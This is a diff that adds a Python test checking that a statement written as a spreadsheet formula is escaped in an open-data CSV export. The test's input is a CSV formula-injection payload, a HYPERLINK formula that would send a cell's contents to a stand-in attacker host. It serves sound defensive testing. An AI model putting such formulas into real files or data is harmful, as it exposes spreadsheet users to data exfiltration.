@@ -103,3 +103,16 @@ def test_unmoderated_statements_are_public_where_moderation_is_not_first(persona
     statement.moderation = Statement.Moderation.UNMODERATED
     statement.save(update_fields=["moderation"])
     assert list(selectors.visible_statements(conversation)) == [statement]
+
+
+def test_a_statement_written_as_a_formula_is_published_as_text(client, personas):
+    conversation = services.conversation_create(
+        territory=personas.commune,
+        topic="Formules",
+        actor=personas.facilitator,
+        seed_statements=['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'],
+    )
+    assert conversation.statements.count() == 1
+    text = b"".join(client.get("/open-data/opinion-statements.csv").streaming_content).decode()
+    assert "'=HYPERLINK(" in text
+    assert ',"=HYPERLINK(' not in text and ",=HYPERLINK(" not in text
